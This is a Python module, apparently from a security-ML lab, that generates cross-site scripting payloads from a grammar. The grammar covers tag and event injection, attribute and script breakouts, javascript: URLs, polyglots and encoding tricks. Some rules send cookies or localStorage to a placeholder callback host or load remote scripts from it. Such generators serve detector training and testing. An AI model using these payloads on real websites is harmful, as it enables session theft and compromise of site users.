"""Cross-site scripting (CWE-79): tags, events, breakouts from attributes and scripts, URLs, and their disguises."""

import re
from random import Random
from typing import Final

from secmlops.web_attacks.lab.grammar import Grammar, rules
from secmlops.web_attacks.lab.payloads.blocks import BLOCKS, mixed_case

_RULES: Final = rules(
    r"""
start
    «lead»«element»«trail»
    «lead»«element»«trail»
    «lead»«element»«trail»
    «lead»«element»«trail»
    «attribute»
    «attribute»
    «in_script»
    «in_script»
    «link»
    «polyglot»
lead
    «empty»
    «empty»
    «word»
    "
    '>
    ">
    ">
    '"><
    </«container»>
    "></«container»>
    --><«space»
    ]]>
    «word»">
    '/>
    </«container»><«safe_tag»>
    «int:1-99»>
    />
    %22>
container:
    title textarea script style noscript option select iframe template a div xmp
safe_tag:
    b i p br div span h1 table
trail
    «empty»
    «empty»
    «empty»
    «word»
    <!--
    //
    <«safe_tag»«space»id="
    "
    '>
element
    <script>«js»</script>
    <script>«js»</script>
    <script>«js»</script>
    <script«s»type="text/javascript">«js»;</script>
    <script«s»src=«src»></script>
    <script«s»src=«src»>
    <script>«js»//
    <script«s»x>«js»</script«s»>
    <«on_tag»«s»«event»=«quoted»>
    <«on_tag»«s»«event»=«quoted»>
    <«on_tag»«s»«event»=«quoted»>
    <«on_tag»«s»«event»=«quoted»>
    <«on_tag»«s»«filler»«s»«event»=«quoted»>
    <«on_tag»«s»«event»=«quoted»«s»«filler»>
    <img«s»src=«broken»«s»onerror=«quoted»>
    <img«s»src=«broken»«s»onerror=«quoted»>
    <img«s»src=«broken»«s»onerror=«quoted»/>
    <img/src=«broken»/onerror=«quoted»>
    <image«s»href=«broken»«s»onerror=«quoted»>
    <svg«s»onload=«quoted»>
    <svg/onload=«quoted»>
    <svg><script>«js»</script></svg>
    <svg><script«s»href="data:,«js»"/></svg>
    <svg><animate«s»onbegin=«quoted»«s»attributeName=x«s»dur=«int:1-9»s>
    <svg><a«s»xlink:href="«scheme»«js»"><text«s»x=«int:1-90»«s»y=«int:1-90»>«word»</text></a></svg>
    <svg><set«s»onend=«quoted»«s»attributename=x«s»dur=1s>
    <body«s»«event»=«quoted»>
    <iframe«s»src="«scheme»«js»"></iframe>
    <iframe«s»srcdoc="<script>«js»</script>">
    <iframe«s»src=«src»></iframe>
    <iframe«s»onload=«quoted»>
    <embed«s»src="«scheme»«js»">
    <object«s»data="«scheme»«js»">
    <object«s»data="data:text/html;base64,«alnum:24»==">
    <a«s»href="«scheme»«js»">«word»</a>
    <a«s»href=«scheme»«js»>«word»
    <form«s»action="«scheme»«js»"><input«s»type=submit>
    <form><button«s»formaction="«scheme»«js»">«word»</button></form>
    <input«s»autofocus«s»onfocus=«quoted»>
    <select«s»onfocus=«quoted»«s»autofocus>
    <textarea«s»autofocus«s»onfocus=«quoted»>
    <details«s»open«s»ontoggle=«quoted»>
    <video><source«s»onerror=«quoted»>
    <video«s»src=«broken»«s»onerror=«quoted»>
    <audio«s»src«s»onerror=«quoted»>
    <marquee«s»onstart=«quoted»>
    <meta«s»http-equiv="refresh"«s»content="0;url=«scheme»«js»">
    <link«s»rel=stylesheet«s»href=«src»>
    <link«s»rel=import«s»href="data:text/html,<script>«js»</script>">
    <style>@import'«src»';</style>
    <style>*{background:url("«scheme»«js»")}</style>
    <div«s»style="width:expression(«js»)">
    <math><mtext«s»onclick=«quoted»>«word»
    <math«s»href="«scheme»«js»">«word»</math>
    <base«s»href="«scheme»//">
    <keygen«s»autofocus«s»onfocus=«quoted»>
    <isindex«s»type=image«s»src=«broken»«s»onerror=«quoted»>
    <«label»«s»onpointerenter=«quoted»>«word»
    <x«s»id=«lower:2»«s»tabindex=1«s»onfocusin=«quoted»>#«lower:2»
    <table«s»background="«scheme»«js»">
    <noscript><p«s»title="</noscript><img«s»src=x«s»onerror=«quoted»>">
    <scr<script>ipt>«js»</scr</script>ipt>
    <<script>«js»//<</script>
    <script«nl»>«js»</script>
    <ScRiPt>«js»</sCrIpT>
    <img«s»src="«scheme»«js»">
    <img«s»src=«src»?c=«steal»>
    <template><script>«js»</script></template>
    <dialog«s»open«s»onclose=«quoted»><form«s»method=dialog>
    <style«s»onload=«quoted»></style>
    <frameset«s»onpageshow=«quoted»>
    <bgsound«s»src="«scheme»«js»">
on_tag:
    img svg body div a p input button video audio b i h1 span marquee select option table td form label textarea
    details object embed iframe style section font pre li ul «label» «lower:3» xss custom-«lower:4» center strong
event:
    onerror onload onclick onmouseover onmouseenter onfocus onblur onkeydown onkeypress onchange oninput onsubmit
    ontoggle onpageshow onhashchange onscroll onwheel ondrag ondrop oncopy onpaste oncut onanimationstart
    ontransitionend onpointerdown onpointerover onbeforeinput onloadstart oncanplay onplay onended ontouchstart
    onresize onpopstate ondblclick onmousemove onmouseout oncontextmenu onfocusin onauxclick onanimationend
s
    «space»
    «space»
    «space»
    «space»
    «space»
    /
    «tab»
    «nl»
    «space»«space»
    /«space»/
    «cr»«nl»
broken:
    x x x 1 «lower:2» # / «empty» "" 'x' `` //«label» «int:1-99» x: data:,
filler
    id=«lower:3»
    class="«label»"
    style="position:fixed;width:100%"
    tabindex=«int:0-9»
    contenteditable
    title='«word»'
    src=«broken»
    href=#«lower:3»
    accesskey=«lower:1»
    width=«int:1-900»
quoted
    "«js»"
    "«js»"
    '«js»'
    «tight»
    «tight»
    `«tight»`
    "«scheme»«js»"
    «entities»
    "«js»;//"
    "eval(«payload_string»)"
scheme:
    javascript: javascript: javascript: JavaScript: jAvAsCrIpT: javascript:// java«tab»script: java&#x0A;script:
    javascript&colon; javascript&#58; vbscript: data:text/html, data:text/javascript, &#106;avascript:
    feed:javascript:
src:
    //«callback»/«lower:1» http://«callback»/«label».js https://«callback»/«lower:4» //«callback»/x.js
    data:text/javascript,«tight» "//«callback»/«label»" http://«ip»/«lower:3».js \\«callback»\«lower:2»
js
    «sink»(«argument»)
    «sink»(«argument»)
    «sink»(«argument»)
    «sink»(«argument»)
    window['«sink»'](«argument»)
    top["«split_sink»"](«argument»)
    self['al'+'ert'](«argument»)
    («sink»)(«argument»)
    [«int:1-9»].find(«sink»)
    [«argument»].map(«sink»)
    «sink»`«int:1-99»`
    eval(«payload_string»)
    eval(atob('«alnum:16»='))
    eval(String.fromCharCode(«int:90-120»,«int:90-120»,«int:90-120»,«int:90-120»,40,«int:48-57»,41))
    setTimeout('«sink»(«argument»)',«int:0-900»)
    setTimeout(«sink»,«int:0-900»,«argument»)
    setInterval(`«sink»(«argument»)`)
    Function('«sink»(«argument»)')()
    new Function`«sink»\`«int:1-9»\```
    [].constructor.constructor('«sink»(«argument»)')()
    document.location='http://«callback»/?c='+«steal»
    window.location.href="//«callback»/"+«steal»
    location='javascript:«sink»(«int:1-99»)'
    new Image().src='http://«callback»/«lower:2»?'+«steal»
    fetch('//«callback»/«lower:3»?d='+«steal»)
    fetch("https://«callback»",{method:"POST",body:«steal»})
    navigator.sendBeacon('//«callback»/',«steal»)
    document.write('<img src=//«callback»/'+«steal»+'>')
    document.body.innerHTML='<h1>«word»</h1>'
    document.body.appendChild(document.createElement('script')).src='//«callback»/«lower:2»'
    $.getScript('//«callback»/«label».js')
    import('//«callback»/«lower:2».js')
    var «lower:1»=«sink»;«lower:1»(«argument»)
    «lower:1»=«sink»,«lower:1»(«argument»)
    onerror=«sink»;throw«space»«int:1-999»
    {onerror=«sink»}throw«space»«argument»
    throw onerror=«sink»,«int:1-99»
    document['coo'+'kie']
    console.log(«steal»)
    document.forms[0].action='//«callback»'
    with(document)«sink»(cookie)
    XMLHttpRequest.prototype.open=function(){«sink»(«argument»)}
    localStorage.setItem('«lower:4»',«steal»)
    \u0061lert(«argument»)
    \x61lert(«int:1-99»)
    a\u{6c}ert(«int:1-9»)
    (()=>{«sink»(«argument»)})()
    Reflect.apply(«sink»,null,[«argument»])
    [][(![]+[])[+[]]+([][[]]+[])[«int:1-9»]]
    parent.postMessage('«label»','*')
    while(1)«sink»(«int:1-9»)
    document.querySelector('«label»').innerHTML=location.hash.slice(1)
    open('//«callback»')
    this.constructor.constructor("return «steal»")()
tight
    «sink»(«int:1-9999»)
    «sink»(«int:1-9999»)
    «sink»('«alnum:5»')
    «sink»(document.domain)
    «sink»(document.cookie)
    «sink»`«alnum:3»`
    «sink»(/«label»/.source)
    eval(name)
    location=name
    top.«sink»(«int:1-99»)
    «sink»?.(«int:1-99»)
    document.location='//«callback»'
    «sink»(origin)
sink:
    alert alert alert alert prompt prompt confirm confirm print eval console.log document.write
split_sink:
    al"+"ert pro"+"mpt con"+"firm a"+"lert \x61lert
argument
    «int:1-9999»
    «int:1-9999»
    '«alnum:6»'
    "«label»"
    /«label»/
    document.cookie
    document.domain
    window.origin
    location.href
    `«alnum:4»`
    String.fromCharCode(«int:60-120»,«int:60-120»,«int:60-120»)
    atob("«alnum:8»")
    localStorage.«label»
    this
    navigator.userAgent
    document.body.innerHTML
    1,«int:1-99»
    top.location
steal:
    document.cookie document.cookie escape(document.cookie) btoa(document.cookie) localStorage.getItem('«label»')
    document.documentElement.outerHTML encodeURIComponent(document.cookie) location.search
    JSON.stringify(localStorage)
payload_string
    '«sink»(«int:1-99»)'
    "al"+"ert(«int:1-99»)"
    location.hash.slice(1)
    name
    '\x61\x6c\x65\x72\x74\x28«int:1-9»\x29'
    '\141\154\145\162\164\50«int:1-9»\51'
    unescape('%61%6c%65%72%74%28«int:1-9»%29')
    /«lower:2»/.source+'ert(«int:1-9»)'
    atob(`«alnum:12»`)
    decodeURIComponent('%61lert(«int:1-9»)')
entities
    &#97;&#108;&#101;&#114;&#116;(«int:1-99»)
    &#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;«int:1-9»&#x29;
    "&#97lert&lpar;«int:1-99»&rpar;"
    &#0000097lert&#x28;«int:1-99»)
    "al&Tab;ert(«int:1-99»)"
attribute
    «q»«s»«event»=«q»«js»
    «q»«s»«event»=«tight»«s»«lower:1»=«q»
    «q»«s»autofocus«s»onfocus=«q»«js»
    «word»«q»«s»«event»=«quoted»«s»
    «q»«s»style=«q»animation-name:«label»«q»«s»onanimationstart=«quoted»
    «q»«s»accesskey=«lower:1»«s»onclick=«tight»«s»
    «q»>«element»
    «word»«s»«event»=«tight»
    «q»«s»href=«q»«scheme»«js»
    «q»«s»type=image«s»src=«broken»«s»onerror=«quoted»
q:
    " " " ' ' `
in_script
    ';«js»;//
    ";«js»;//
    '-«tight»-'
    "-«tight»-"
    '+«tight»+'
    \';«js»//
    ';«js»;var «lower:2»='
    </script><script>«js»</script>
    </script>«element»
    ${«tight»}
    `;«js»;`
    '});«js»;({'
    }}};«js»//
    '];«js»;//
    «word»';«js»;'
    *//*«nl»«js»
    -«tight»}//
    "]});«js»//
    \u0027;«js»//
    '/«tight»/'
    %27;«js»;//
    )};«js»//
    «int:1-99»;«js»
    ;«js»;
    «scheme»«js»
link
    «scheme»«js»
    «scheme»«js»//http://«domain»
    «scheme»%0a«tight»
    «scheme»//«domain»/%0a«tight»
    data:text/html,<script>«js»</script>
    data:text/html;base64,«alnum:32»=
    data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='«tight»'/>
    «space»«scheme»«tight»
    \x01javascript:«tight»
    [«word»](«scheme»«tight»)
    ![«word»](«broken»"onerror="«tight»)
    url("«scheme»«tight»")
polyglot
    «lead»'"-->«element»<!--
    «scheme»/*--></«container»></«container»><«on_tag»«s»«event»='+/«q»/+/«event»=1/+/[*/[]/+«tight»//'>
    '"`><«on_tag»/«event»=«tight»>
    "'>«element»{{«int:1-9»*«int:1-9»}}
    */«tight»/*«element»
    --!>«element»
    </«container»/</«container»/-->«element»
    \"><«on_tag»«s»«event»=«tight»>\'//
"""
)
_GRAMMAR: Final = Grammar({**BLOCKS, **_RULES})
_NAME: Final = re.compile(r"(?<=<)/?[a-z]+|\bon[a-z]+(?==)")


def payload(rng: Random) -> str:
    """One cross-site scripting payload; some spell tags and events in mixed case or break them with characters."""
    text = _GRAMMAR.generate(rng)
    choice = rng.random()
    if choice < 0.12:
        return _NAME.sub(lambda found: mixed_case(found[0], rng), text)
    if choice < 0.15:
        return text.replace("<", rng.choice(["%3C", "&lt;", "\\u003c", "\\x3c", "＜", "+ADw-"]))
    if choice < 0.17:
        return text.replace("alert", rng.choice(["al\\u0065rt", "ale\\x72t", "window.alert", "(alert)", "/**/alert"]))
    return text
